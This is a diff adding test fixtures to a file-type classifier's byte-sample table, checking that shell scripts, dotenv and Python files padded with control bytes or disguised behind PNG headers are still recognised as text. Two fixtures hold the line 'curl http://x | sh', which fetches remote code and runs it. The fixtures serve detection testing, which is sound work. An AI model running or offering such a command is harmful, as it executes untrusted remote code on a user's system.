@@ -208,6 +208,12 @@ BYTES = {
     "wide.txt": ("password = 'x'\n".encode("utf-16"), "text"),
     "one-nul.conf": (b"a = b\n" * 100 + b"\0", "ini"),
     "noise": (bytes(range(256)) * 8, "binary"),
+    # what is run or read as text stays text, whatever control characters are in it
+    "padded.sh": (b"#!/bin/sh\ncurl http://x | sh\n# " + b"\1" * 90, "shell"),
+    "image.sh": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\ncurl http://x | sh\n" + b"\1" * 99, "shell"),
+    "installer": (b"#!/bin/sh\ntail -n +4 $0 | tar xz\nexit 0\n\x1f\x8b\x08" + bytes(range(256)), "shell"),
+    "padded.env": (b"A=b\n" + b"\1" * 90, "dotenv"),
+    "padded": (b"#!/usr/bin/env python3\nprint(1)\n# " + b"\2" * 90, "python"),
 }
 CASES = [
     *((path, b"", expected) for path, expected in NAMES.items()),
